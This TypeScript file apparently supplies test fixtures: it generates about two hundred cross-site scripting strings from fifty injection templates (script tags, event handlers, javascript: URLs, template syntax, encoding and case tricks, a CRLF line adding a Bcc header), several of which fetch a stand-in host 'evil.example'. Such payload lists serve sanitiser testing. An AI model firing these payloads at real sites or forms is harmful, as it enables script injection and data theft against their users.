/** Words that are programs where somebody forgets to treat them as words: tags, attributes, URLs, templates, headers. */
const carriers: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`, (call) => `"><script>${call}</script>`, (call) => `</textarea><script>${call}</script>`, (call) => `</title><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`, (call) => `<img src="x" onerror="${call}">`, (call) => `'><img src=x onerror='${call}'>`, (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`, (call) => `<svg><script>${call}</script></svg>`, (call) => `<svg><animate onbegin=${call} attributeName=x>`, (call) => `<body onload=${call}>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`, (call) => `<iframe srcdoc="<script>${call}</script>">`, (call) => `<a href="javascript:${call}">x</a>`, (call) => `<a href="jav&#x09;ascript:${call}">x</a>`,
  (call) => `<details open ontoggle=${call}>`, (call) => `<input autofocus onfocus=${call}>`, (call) => `<select autofocus onfocus=${call}>`, (call) => `<video><source onerror=${call}></video>`,
  (call) => `<object data="javascript:${call}">`, (call) => `<embed src="javascript:${call}">`, (call) => `<form action="javascript:${call}"><button>x</button>`, (call) => `<math><a xlink:href="javascript:${call}">x</a></math>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`, (call) => `<style>@import "javascript:${call}";</style>`, (call) => `<div style="background:url(javascript:${call})">`, (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`, (call) => `" onmouseover="${call}`, (call) => `' onmouseover='${call}`, (call) => `\` onmouseover=${call} x=\``,
  (call) => `javascript:${call}`, (call) => `\${${call}}`, (call) => `{{${call}}}`, (call) => `<%= ${call} %>`, (call) => `';${call}//`, (call) => `";${call}//`, (call) => `\\";${call}//`, (call) => `--><script>${call}</script>`,
  (call) => `]]><script>${call}</script>`, (call) => `<scr<script>ipt>${call}</scr</script>ipt>`, (call) => `<ScRiPt>${call}</sCrIpT>`, (call) => `<script\t>${call}</script\n>`,
  (call) => `\u2028${call}\u2029`, (call) => `\u202e<script>${call}</script>`, (call) => `%3Cscript%3E${call}%3C/script%3E`, (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\u003cscript\\u003e${call}`, (call) => `x\r\nBcc: all@example.org\r\n\r\n<script>${call}</script>`,
];
const calls = ['alert(1)', 'alert`1`', 'fetch("//evil.example")', 'top["al"+"ert"](1)'];

/** Two hundred, each fit for a subject's 120 characters. */
export const xssStrings: readonly string[] = calls.flatMap((call) => carriers.map((carry) => carry(call)));
